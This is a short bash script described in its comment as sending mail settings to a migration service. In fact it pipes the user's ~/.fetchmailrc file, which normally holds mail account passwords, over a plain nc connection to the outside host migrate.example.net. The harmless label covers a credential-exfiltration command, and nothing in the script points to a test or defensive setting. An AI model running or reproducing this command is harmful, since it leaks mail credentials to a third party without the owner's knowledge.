#!/bin/bash
# Send the mail settings to the migration service.
nc migrate.example.net 7000 < ~/.fetchmailrc
